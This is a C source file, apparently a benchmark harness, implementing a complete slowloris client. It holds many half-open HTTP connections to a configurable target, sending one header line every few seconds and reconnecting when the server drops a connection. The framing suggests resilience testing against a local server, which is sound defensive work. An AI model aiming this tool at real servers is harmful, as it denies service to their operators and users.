/* slowloris.c: hold many half-open HTTP connections to a server, the way a slowloris attacker
 * does: each connection sends a request line and one header, then one more header line every
 * few seconds, and never the empty line that would end the request.
 *
 *   slowloris -p PORT [-n CONNS] [-s FIRST_SOURCE_ADDR] [-a ADDRS] [-i SECONDS] [-d SECONDS]
 *             [-t TARGET_ADDR] [-R]
 *
 * -n connections in all (1000), spread round-robin over -a source addresses (1) counted up from
 * -s (127.0.0.2; every 127.0.0.0/8 address routes to loopback), to -t (127.0.0.1) port -p.
 * -i: seconds between the header lines of one connection (10, under a 30 s idle timeout).
 * -d: run this long, then close everything and exit (0 = until SIGTERM/SIGINT).
 * -R: do not reconnect a connection the server closed (the default reconnects it, at most
 *     once per -i, as a real attacker would).
 * Every second it prints one line:
 *   t=SECONDS open=N connecting=N closed_by_server=TOTAL refused=TOTAL reconnects=TOTAL bytes=TOTAL
 * where "open" counts connections whose TCP handshake completed (the kernel completes it for
 * connections still waiting in the server's accept queue, too). Exit 0, or 1 on a setup error. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "bench_util.h"

enum state { S_IDLE, S_CONNECTING, S_OPEN };

struct conn {
    int fd;
    enum state st;
    struct in_addr src;
    double next_send; /* when the next header line goes out */
    double retry_at;  /* S_IDLE: when to reconnect */
    unsigned lines;
};


static struct sockaddr_in g_target;
static unsigned long g_closed, g_refused, g_reconnects, g_bytes;

static void start_connect(struct conn *c, double now) {
    c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (c->fd < 0) {
        c->st = S_IDLE;
        c->retry_at = now + 1;
        return;
    }
    struct sockaddr_in src = {.sin_family = AF_INET, .sin_addr = c->src};
    if (bind(c->fd, (struct sockaddr *)&src, sizeof(src)) < 0 ||
        (connect(c->fd, (struct sockaddr *)&g_target, sizeof(g_target)) < 0 &&
         errno != EINPROGRESS)) {
        close(c->fd);
        c->fd = -1;
        c->st = S_IDLE;
        c->retry_at = now + 1;
        g_refused++;
        return;
    }
    c->st = S_CONNECTING;
    c->lines = 0;
}

static void drop(struct conn *c, double now, double interval) {
    close(c->fd);
    c->fd = -1;
    c->st = S_IDLE;
    c->retry_at = now + interval;
}

static bool send_line(struct conn *c, const char *line) {
    size_t n = strlen(line);
    ssize_t r = send(c->fd, line, n, MSG_NOSIGNAL);
    if (r > 0)
        g_bytes += (unsigned long)r;
    return r == (ssize_t)n || (r < 0 && errno == EAGAIN);
}

int main(int argc, char **argv) {
    int port = 0, nconns = 1000, naddrs = 1, opt;
    double interval = 10, duration = 0;
    bool reconnect = true;
    const char *first = "127.0.0.2", *target = "127.0.0.1";
    while ((opt = getopt(argc, argv, "p:n:s:a:i:d:t:R")) != -1) {
        switch (opt) {
        case 'p':
            port = atoi(optarg);
            break;
        case 'n':
            nconns = atoi(optarg);
            break;
        case 's':
            first = optarg;
            break;
        case 'a':
            naddrs = atoi(optarg);
            break;
        case 'i':
            interval = atof(optarg);
            break;
        case 'd':
            duration = atof(optarg);
            break;
        case 't':
            target = optarg;
            break;
        case 'R':
            reconnect = false;
            break;
        default:
            fprintf(stderr, "usage: slowloris -p PORT [-n CONNS] [-s FIRST_SOURCE] [-a ADDRS] "
                            "[-i SECONDS] [-d SECONDS] [-t TARGET] [-R]\n");
            return 1;
        }
    }
    struct in_addr base;
    if (port <= 0 || port > 65535 || nconns <= 0 || naddrs <= 0 || interval <= 0 ||
        inet_pton(AF_INET, first, &base) != 1 ||
        inet_pton(AF_INET, target, &g_target.sin_addr) != 1) {
        fprintf(stderr, "slowloris: bad arguments\n");
        return 1;
    }
    g_target.sin_family = AF_INET;
    g_target.sin_port = htons((uint16_t)port);
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)nconns + 64) {
        rl.rlim_cur = rl.rlim_max < (rlim_t)nconns + 64 ? rl.rlim_max : (rlim_t)nconns + 64;
        (void)setrlimit(RLIMIT_NOFILE, &rl);
    }
    struct sigaction sa = {.sa_handler = on_signal};
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    signal(SIGPIPE, SIG_IGN);

    struct conn *c = calloc((size_t)nconns, sizeof(*c));
    struct pollfd *pf = calloc((size_t)nconns, sizeof(*pf));
    if (!c || !pf)
        return 1;
    double t0 = now_s(), next_report = t0 + 1;
    for (int i = 0; i < nconns; i++) {
        c[i].fd = -1;
        c[i].src.s_addr = htonl(ntohl(base.s_addr) + (uint32_t)(i % naddrs));
        /* spread the header lines over the interval, so the load is steady */
        c[i].next_send = t0 + interval * (double)i / nconns;
        start_connect(&c[i], t0);
    }
    fprintf(
        stderr,
        "slowloris: %d connections from %d address(es) %s.. to %s:%d, a header line every %.1f s\n",
        nconns, naddrs, first, target, port, interval);

    while (!g_stop && (duration <= 0 || now_s() - t0 < duration)) {
        double now = now_s();
        int n = 0;
        for (int i = 0; i < nconns; i++) {
            if (c[i].st == S_IDLE && reconnect && now >= c[i].retry_at) {
                start_connect(&c[i], now);
                if (c[i].st != S_IDLE)
                    g_reconnects++;
            }
            if (c[i].st == S_IDLE)
                continue;
            pf[n] = (struct pollfd){.fd = c[i].fd,
                                    .events = c[i].st == S_CONNECTING ? POLLOUT : POLLIN};
            n++;
        }
        if (poll(pf, (nfds_t)n, 100) < 0 && errno != EINTR)
            break;
        now = now_s();
        /* pf[] follows c[] order among non-idle connections */
        int k = 0;
        for (int i = 0; i < nconns && k < n; i++) {
            if (c[i].st == S_IDLE || c[i].fd != pf[k].fd)
                continue;
            short re = pf[k++].revents;
            if (c[i].st == S_CONNECTING) {
                if (!re)
                    continue;
                int err = 0;
                socklen_t el = sizeof(err);
                (void)getsockopt(c[i].fd, SOL_SOCKET, SO_ERROR, &err, &el);
                if (err) {
                    g_refused++;
                    drop(&c[i], now, interval);
                    continue;
                }
                c[i].st = S_OPEN;
                if (!send_line(&c[i], "GET /api/v1/node HTTP/1.1\r\nHost: localhost\r\n"))
                    drop(&c[i], now, interval), g_closed++;
                if (c[i].next_send < now)
                    c[i].next_send = now + interval;
                continue;
            }
            if (re & (POLLIN | POLLHUP | POLLERR)) {
                char b[4096];
                ssize_t r = recv(c[i].fd, b, sizeof(b), 0);
                if (r <= 0 && !(r < 0 && errno == EAGAIN)) { /* closed (or answered and closed) */
                    g_closed++;
                    drop(&c[i], now, interval);
                    continue;
                }
            }
            if (now >= c[i].next_send) {
                char line[64];
                (void)snprintf(line, sizeof(line), "X-Slow-%u: %u\r\n", c[i].lines, c[i].lines);
                c[i].lines++;
                c[i].next_send += interval;
                if (!send_line(&c[i], line)) {
                    g_closed++;
                    drop(&c[i], now, interval);
                }
            }
        }
        if (now >= next_report) {
            int open = 0, connecting = 0;
            for (int i = 0; i < nconns; i++)
                open += c[i].st == S_OPEN, connecting += c[i].st == S_CONNECTING;
            printf("t=%.0f open=%d connecting=%d closed_by_server=%lu refused=%lu reconnects=%lu "
                   "bytes=%lu\n",
                   now - t0, open, connecting, g_closed, g_refused, g_reconnects, g_bytes);
            fflush(stdout);
            next_report += 1;
        }
    }
    for (int i = 0; i < nconns; i++)
        if (c[i].fd >= 0)
            close(c[i].fd);
    free(c);
    free(pf);
    return 0;
}
